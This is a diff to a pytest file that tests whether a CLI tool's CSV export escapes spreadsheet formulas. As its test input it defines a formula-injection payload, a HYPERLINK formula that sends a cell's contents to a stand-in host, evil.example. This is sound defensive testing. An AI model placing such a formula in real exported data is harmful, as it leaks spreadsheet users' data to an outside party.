@@ -8,14 +8,13 @@ import json
 from pathlib import Path
 
 import pytest
-from sqlalchemy import update
 from typer.testing import CliRunner
 
 from corix.cli.main import app
+from corix.domain import Level
 from corix.report import safe_folder, spreadsheet_safe
 from corix.storage import Database
-from corix.storage.orm import TurnRow
-from support.run_builder import write_tiny_run
+from support.run_builder import RunBuilder
 
 runner = CliRunner()
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
@@ -51,9 +50,10 @@ def _turns(path: Path) -> list[dict[str, str]]:
 async def test_csv_export_escapes_formulas_unless_asked_not_to(
     any_db: Database, tmp_path: Path
 ) -> None:
-    run_id = await write_tiny_run(any_db)
-    with any_db.session() as s:
-        s.execute(update(TurnRow).values(response_text=FORMULA))
+    run = RunBuilder("run-formula")
+    run.session("s1", "alpha", "tv_spoilers", Level.MODEL_TESTING, [("Who dies?", FORMULA)])
+    run.session("s2", "beta", "pathfinder", Level.RED_TEAMING, [("Hi", FORMULA), ("Go", FORMULA)])
+    run_id = await run.write(any_db)
     escaped, raw = tmp_path / "escaped", tmp_path / "raw"
     for out, flags in ((escaped, []), (raw, ["--no-formula-escape"])):
         result = runner.invoke(
